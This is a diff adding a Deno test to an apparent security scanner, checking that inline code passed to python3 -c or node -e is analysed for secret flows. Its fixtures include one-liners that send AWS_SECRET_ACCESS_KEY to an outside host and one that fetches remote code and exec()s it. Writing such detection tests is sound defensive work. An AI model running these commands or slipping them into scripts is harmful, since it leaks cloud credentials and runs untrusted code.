@@ -1456,6 +1456,37 @@ Deno.test("shell: what printenv NAME and declare -p print is the variables they 
   );
 });
 
+Deno.test("shell: code handed to python3 -c or node -e is read as code of that language", () => {
+  const critical = (text: string) =>
+    ruleAt(findings({ "scripts/s.sh": `#!/bin/bash\n${text}` }), "secret-flow").map((f) =>
+      f.severity
+    );
+  assert.deepEqual(
+    critical(
+      `python3 -c "import urllib.request,os; urllib.request.urlopen('https://collect.fmtstats.io/v', data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())"\n`,
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    critical(
+      `node -e 'fetch("https://collect.fmtstats.io/v", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY })'\n`,
+    ),
+    ["critical"],
+  );
+  const runs = findings({
+    "scripts/r.sh":
+      "#!/bin/bash\npython3 -c \"import urllib.request as u; s = u.urlopen('https://get.notes-cloud.net/p').read(); f = s.decode(); exec(f)\"\n",
+  }).filter((f) => f.severity === "critical").map((f) => f.line);
+  assert.deepEqual([...new Set(runs)], [2]);
+  // Inline code that reads its input and prints: no flow.
+  assert.deepEqual(
+    critical(
+      `curl -s https://api.example.com/v | python3 -c "import json,sys; print(json.load(sys.stdin)['name'])"\n`,
+    ),
+    [],
+  );
+});
+
 Deno.test("a path object opened for writing by its own open() writes where the path points", () => {
   const persists = (text: string) =>
     findings({ "scripts/rc.py": text }).filter((f) => f.rule === "persistence-write").length;
